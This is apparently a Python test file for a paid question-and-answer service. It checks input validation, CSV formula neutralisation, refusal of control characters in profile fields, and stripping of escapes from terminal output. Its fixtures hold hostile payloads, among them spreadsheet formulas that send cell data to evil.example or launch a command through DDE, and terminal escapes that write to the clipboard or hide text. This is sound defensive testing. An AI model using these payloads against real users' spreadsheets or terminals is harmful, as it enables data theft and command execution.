"""Values that hurt later: accepted input that made a route 500 (price_usd "0"), non-finite numbers,
formulas planted in an asker's spreadsheet, terminal escapes in what the CLI prints, control characters
in display names and bios."""
from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import pty
import sys
import uuid

import pytest

from service.client import PaidSession, signed_headers


async def signed(http, wallet, method, url, body=None):
    async with PaidSession(wallet, session=http) as s:
        return await s.signed(method, url, body)


async def raw_signed(http, wallet, method, url, raw: bytes):
    headers = {**signed_headers(wallet, method, url, raw), "Content-Type": "application/json"}
    async with http.request(method, url, data=raw, headers=headers) as r:
        return r.status, await r.json()


# --- 12.10: refused when saved, not 500 on every later ask ---------------------------------------------
@pytest.mark.parametrize("price_usd", ["0", "0.00", "$0", "000000", "$0.0"])
async def test_a_price_that_cannot_be_charged_is_refused_when_saved(http, base_url, funded, price_usd):
    expert, asker = await funded(0), await funded(100_000)
    status, body = await signed(http, expert, "PUT", f"{base_url}/v1/experts/me",
                                {"display_name": "E", "price_usd": price_usd})
    assert status == 422 and "price_usd" in body["detail"], body
    async with PaidSession(asker, max_price=10_000, session=http) as s:
        status, body, _ = await s.request("POST", f"{base_url}/v1/experts/{expert.username}/questions",
                                          data=json.dumps({"text": "hi"}), headers={"Content-Type": "application/json"})
    assert status < 500, body


# --- 12.11: NaN and Infinity refused wherever a JSON number is accepted --------------------------------
async def _survey(http, base_url, funded):
    owner, asker, member = await funded(0), await funded(5000), await funded(0)
    name = f"s-{uuid.uuid4().hex[:8]}"
    status, lst = await signed(http, owner, "POST", f"{base_url}/v1/lists", {"name": name, "price": 50})
    assert status == 201, lst
    await signed(http, member, "POST", f"{base_url}/v1/lists/{name}/members/me")
    form = [{"id": "nodes", "type": "number", "label": "How many nodes?"},
            {"id": "note", "type": "text", "label": "Anything else?"}]
    async with PaidSession(asker, max_price=10_000, session=http) as s:
        status, q, _ = await s.request("POST", f"{base_url}/v1/lists/{name}/questions", data=json.dumps(
            {"text": "survey", "max_responses": 2, "form": form}), headers={"Content-Type": "application/json"})
    assert status == 201, q
    return asker, member, q


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e400", "-1e999", "9007199254740993.0e300"])
async def test_non_finite_numbers_are_refused_and_nothing_is_paid(http, base_url, funded, ledger, number):
    asker, member, q = await _survey(http, base_url, funded)
    url = f"{base_url}/v1/questions/{q['id']}/reply"
    journal = await ledger.redis.xlen(ledger.journal_key)
    raw = ('{"text": "x", "answers": {"nodes": %s, "note": "n"}}' % number).encode()
    status, body = await raw_signed(http, member, "POST", url, raw)
    assert status in (400, 422), body
    assert await ledger.redis.xlen(ledger.journal_key) == journal
    for method, path, raw in [("POST", "/v1/accounts/me/tokens", '{"max_total": %s}'),
                              ("POST", "/v1/qa/jobs/claim", '{"runner": "rn_0123456789abcdef", "wait": %s}'),
                              ("PUT", "/v1/experts/me", '{"display_name": "E", "price": %s}')]:
        status, body = await raw_signed(http, member, method, f"{base_url}{path}", (raw % number).encode())
        assert status in (400, 422), (path, body)


# --- 12.13: formulas in the CSV export ------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


async def test_csv_export_neutralises_formulas(http, base_url, funded):
    asker, member, q = await _survey(http, base_url, funded)
    status, body = await signed(http, member, "POST", f"{base_url}/v1/questions/{q['id']}/reply",
                                {"text": FORMULAS[0], "answers": {"nodes": -3, "note": FORMULAS[1]}})
    assert status == 201, body
    status, text = await signed(http, asker, "GET", f"{base_url}/v1/questions/{q['id']}/responses?format=csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][2:] == ["-3", "'" + FORMULAS[1], "'" + FORMULAS[0]]


async def test_every_formula_start_is_neutralised():
    from service.experts import csv_cell

    assert [csv_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [csv_cell(v) for v in ("plain", 12, -3.5, "", "a=b")] == ["plain", 12, -3.5, "", "a=b"]


# --- 12.13: control characters in display names and bios ---------------------------------------------
@pytest.mark.parametrize("field,value", [
    ("display_name", "Eve\r\nAdmin: verified"), ("display_name", "Eve\x1b[2K\x1b[1A"), ("display_name", "Eve\n"),
    ("display_name", "Eve\u202eevil"), ("display_name", "Eve\x9b31m"), ("bio", "hi\x1b]52;c;ZXZpbA==\x07"),
    ("bio", "line\rover"), ("bio", "zero\u200bwidth"),
])
async def test_control_characters_in_names_and_bios_are_refused(http, base_url, funded, field, value):
    expert = await funded(0)
    status, body = await signed(http, expert, "PUT", f"{base_url}/v1/experts/me",
                                {"display_name": "Eve", "price": 5, field: value})
    assert status == 422 and field in body["detail"], body


async def test_a_bio_may_have_line_breaks(http, base_url, funded):
    expert = await funded(0)
    status, body = await signed(http, expert, "PUT", f"{base_url}/v1/experts/me",
                                {"display_name": "Eve", "price": 5, "bio": "SRE.\nKubernetes since 1.2.\n"})
    assert status == 200, body


# --- 12.13: the CLI on a terminal prints no escape the server sent ---------------------------------------
HOSTILE_REPLY = "Cilium\x1b[2K\x1b[1A\x1b]52;c;ZXZpbA==\x07\x1b[8mhidden\x1b[0m\x9b31m\x00\x7f end"


async def test_cli_on_a_terminal_strips_escapes_from_a_reply(http, base_url, funded, admin_post, tmp_path):
    expert = await funded(0)
    status, _ = await signed(http, expert, "PUT", f"{base_url}/v1/experts/me", {"display_name": "E", "price": 300})
    assert status == 200
    env = {k: v for k, v in os.environ.items() if not k.startswith("MICROTASKS_")}
    env.update(MICROTASKS_CONFIG_DIR=str(tmp_path / "config"), MICROTASKS_SERVER=base_url)
    username = f"tty{uuid.uuid4().hex[:8]}"

    async def cli(*args: str, tty: bool = False) -> tuple[int, str]:
        if not tty:
            proc = await asyncio.create_subprocess_exec(sys.executable, "-m", "service.cli", *args, env=env,
                                                        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
            out, err = await asyncio.wait_for(proc.communicate(), 60)
            return proc.returncode, (out + err).decode()
        master, slave = pty.openpty()
        proc = await asyncio.create_subprocess_exec(sys.executable, "-m", "service.cli", *args, env=env,
                                                    stdout=slave, stderr=slave)
        os.close(slave)
        chunks: list[bytes] = []
        loop = asyncio.get_running_loop()

        def read_all() -> None:
            while True:
                try:
                    data = os.read(master, 4096)
                except OSError:
                    return
                if not data:
                    return
                chunks.append(data)
                if b"reply from" in b"".join(chunks) and b"end" in b"".join(chunks).split(b"reply from")[-1]:
                    return

        reader = loop.run_in_executor(None, read_all)
        # the CLI polls for the reply: answer once the question exists
        for _ in range(100):
            await asyncio.sleep(0.1)
            if b"question q_" in b"".join(chunks):
                break
        qid = b"".join(chunks).split(b"question ")[1].split(b",")[0].decode()
        status, body = await signed(http, expert, "POST", f"{base_url}/v1/questions/{qid}/reply", {"text": HOSTILE_REPLY})
        assert status == 201, body
        code = await asyncio.wait_for(proc.wait(), 60)
        await asyncio.wait_for(reader, 10)
        os.close(master)
        return code, b"".join(chunks).decode("utf-8", "replace")

    assert (await cli("wallet", "init", username))[0] == 0
    assert (await cli("register"))[0] == 0
    status, _ = await admin_post("/v1/admin/credits", {"username": username, "amount": 1000, "reason": "t"})
    assert status == 201
    code, out = await cli("ask", expert.username, "Which CNI?", "--max-price", "500", "--wait", tty=True)
    assert code == 0, out
    assert "reply from" in out and "Cilium" in out and "hidden" in out
    for bad in ("\x1b", "\x07", "\x9b", "\x00", "\x7f"):
        assert bad not in out, (bad, out)
